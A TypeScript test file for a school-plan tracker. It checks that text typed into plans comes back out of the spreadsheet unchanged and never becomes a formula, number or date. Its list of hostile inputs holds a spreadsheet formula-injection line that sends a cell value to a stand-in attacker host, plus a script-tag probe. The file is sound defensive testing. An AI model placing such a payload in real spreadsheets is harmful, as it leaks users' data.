import fc from 'fast-check';
import type { Goal } from '../../src/core/plan/plan.ts';
import { words } from '../core/tracker/a-plan.ts';
import { goalId, TestDistrict } from '../support/bundle-district.ts';
import { anActivity, fullGoal, planHtml } from '../support/bundle-plans.ts';

/** What Sheets would take for something else, and what people paste. */
const HOSTILE = [
  '=IMPORTXML("https://evil.example/?x="&A1, "//a")',
  '=1+1',
  '+1',
  '-5',
  '@x',
  '3-5',
  '1/2',
  '10%',
  '$5.00',
  '1e3',
  '12:30',
  'May 2026',
  '2026-05-01',
  'TRUE',
  '007',
  "'quoted",
  "''twice",
  '#REF!',
  '<script>alert(1)</script>',
  '&amp; "and" &lt;',
  'One line\nand another',
  'left\tright',
  'Family: 👩‍👩‍👧, café, ñ, 日本語, עברית',
  'a  b',
  'x'.repeat(3000),
];

/** Columns that show words of the plan as they stand, by tab. */
const TEXT_COLUMNS = {
  Goals: [
    'SMART goal',
    'Student group',
    'Grades',
    'Content area',
    'Instrument',
    'Metric',
    'Initiative',
    'Baseline date',
    'Target date',
  ],
  Activities: ['Activity', 'Lead', 'Start', 'End', 'How often', 'MTSS tier', 'Adult measure', 'Student measure'],
  Resources: ['Fund', 'Purpose'],
  Progress: ['Date', 'Status', 'Note'],
} as const;
const TABS = Object.keys(TEXT_COLUMNS) as (keyof typeof TEXT_COLUMNS)[];

/** A goal that says one text wherever it can. */
function goalSaying(id: string, text: string): Goal {
  const { lead, start, end, howOften, mtssTier, adultMeasure, studentMeasure, ...rest } = anActivity(text);
  const saying = { lead, start, end, howOften, mtssTier, adultMeasure, studentMeasure };
  return fullGoal(id, {
    initiative: { text, id: null },
    statement: text,
    studentGroup: text,
    grades: text,
    contentArea: text,
    instrument: text,
    metric: text,
    baselineDate: text,
    targetDate: text,
    activities: [{ ...rest, ...Object.fromEntries(Object.keys(saying).map((key) => [key, text])) } as typeof rest & typeof saying],
    resources: [{ fund: text, amount: words('3-5'), fte: words('1/2'), purpose: text }],
    progress: [{ date: text, value: words('=2+2'), status: text, note: text }],
  });
}

/** What a tab shows in those columns for one goal. */
const shown = (district: TestDistrict, tab: keyof typeof TEXT_COLUMNS, id: string) =>
  district
    .rows(tab)
    .filter((row) => row['Goal ID'] === id && row['Row status'] !== 'No longer in the plan')
    .map((row) => Object.fromEntries(TEXT_COLUMNS[tab].map((column) => [column, row[column]])));

const said = (tab: keyof typeof TEXT_COLUMNS, text: string) => [
  Object.fromEntries(TEXT_COLUMNS[tab].map((column) => [column, text])),
];

const formulasIn = (district: TestDistrict) =>
  district
    .state()
    .tabs.filter(({ name }) => name !== 'Dashboard')
    .flatMap(({ name, rows }) =>
      rows.flat().flatMap((cell) => (cell?.formula === undefined ? [] : [`${name}: ${cell.formula}`])),
    );

describe('a text of a plan', () => {
  const goals = HOSTILE.map((text, index) => goalSaying(goalId(0, index), text));
  const district = new TestDistrict([{ school: 'Maple', html: planHtml('Maple', goals.map(inOneLine)) }]);
  goals.forEach(({ id }, index) => typeInto(district, id, HOSTILE[index] ?? ''));
  district.rollUp();

  test.each(HOSTILE.map((text, index) => [text.slice(0, 40), text, goalId(0, index)]))(
    'comes back from the tracker as it went in: %j',
    (_name, text, id) => {
      for (const tab of TABS) expect(shown(district, tab, id)).toEqual(said(tab, text));
    },
  );

  test('never becomes a formula, a number or a day', () => {
    expect(formulasIn(district)).toEqual([]);
    const values = (tab: string, column: string) => new Set(district.rows(tab).map((row) => row[column]));
    expect(values('Resources', 'Amount')).toEqual(new Set(['3-5']));
    expect(values('Resources', 'FTE')).toEqual(new Set(['1/2']));
    expect(values('Progress', 'Value')).toEqual(new Set(['=2+2']));
    expect(district.meteredRollUp().cost.byKind).not.toHaveProperty('rangeWrite');
  });

  /** HTML knows no line breaks, tabs or doubled spaces: those texts are typed. */
  function inOneLine(goal: Goal): Goal {
    return JSON.parse(JSON.stringify(goal).replace(/\\n|\\t| {2}/g, ' ')) as Goal;
  }

  function typeInto(into: TestDistrict, id: string, text: string): void {
    if (!/\n|\t| {2}/.test(text)) return;
    const person = into.plan('Maple');
    const first = person.tables().findIndex((rows) => rows.some((row) => row[1] === id));
    const typed = text.replace(/\n|\t| {2}/g, ' ');
    person.tables().forEach((rows, table) => {
      if (table < first || table > first + 3) return;
      rows.forEach((cells, row) => {
        cells.forEach((cell, column) => {
          if (cell === typed) person.typeInCell([table, row, column], text);
        });
      });
    });
  }
});

test('any text comes back as it went in, whoever typed it', () => {
  const id = goalId(0, 0);
  const district = new TestDistrict([{ school: 'Maple', html: planHtml('Maple', [fullGoal(id)]) }]);
  const [statement, activity, note] = ['SMART goal', 'Activity', 'Note'] as const;
  const person = district.plan('Maple');
  const places = person.tables().flatMap((rows, table) => {
    if (rows[0]?.[0] === 'Activity') return [[table, 1, 0] as const];
    return rows[0]?.[3] === 'Note' ? [[table, 1, 3] as const] : [];
  });
  const text = fc
    .string({ unit: 'grapheme', minLength: 1, maxLength: 40 })
    .map((each) => each.trim())
    .filter((each) => each !== '');
  fc.assert(
    fc.property(text, (typed) => {
      person.setLabelled(statement, typed);
      for (const place of places) person.typeInCell(place, typed);
      district.rollUp();
      const last = (tab: string) => district.rows(tab).filter((row) => row['Row status'] === 'In the plan');
      expect(district.rows('Goals')[0]?.[statement]).toBe(typed);
      expect(last('Activities').map((row) => row[activity])).toContain(typed);
      expect(last('Progress').map((row) => row[note])).toContain(typed);
    }),
    { numRuns: 30 },
  );
  expect(formulasIn(district)).toEqual([]);
});
